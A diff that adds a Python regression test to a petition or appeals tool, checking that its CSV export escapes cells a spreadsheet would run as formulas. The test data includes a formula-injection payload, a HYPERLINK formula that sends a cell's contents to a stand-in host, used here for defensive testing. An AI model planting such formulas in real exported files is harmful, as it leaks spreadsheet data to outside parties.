@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import io
 from datetime import date
@@ -154,3 +155,17 @@ def test_the_period_in_words(runtime: Runtime) -> None:
     assert found.period_phrase() == "from 29 November 2026 to 30 November 2026"
     one_day = dataclasses.replace(found, first=found.last)
     assert (one_day.period(), one_day.period_phrase()) == ("30 November 2026", "on 30 November 2026")
+
+
+def test_no_cell_of_the_csv_runs_as_a_formula(runtime: Runtime) -> None:
+    """The attack that found it: a title or target name that a spreadsheet would run."""
+    payload = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    appeals.add_appeal(
+        runtime.engine, slug="lina", title=payload, campaign="torture", person="@lina",
+        target_authority="-2+3",
+    )  # fmt: skip
+    rows = list(csv.reader(io.StringIO(petition.make(runtime.engine, "lina").csv.decode("utf-8-sig"))))
+    cells = {row[0]: row[2] for row in rows[1:]}
+    assert cells["appeal"] == "'" + payload
+    assert cells["person"] == "'@lina" and cells["target"] == "'-2+3"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
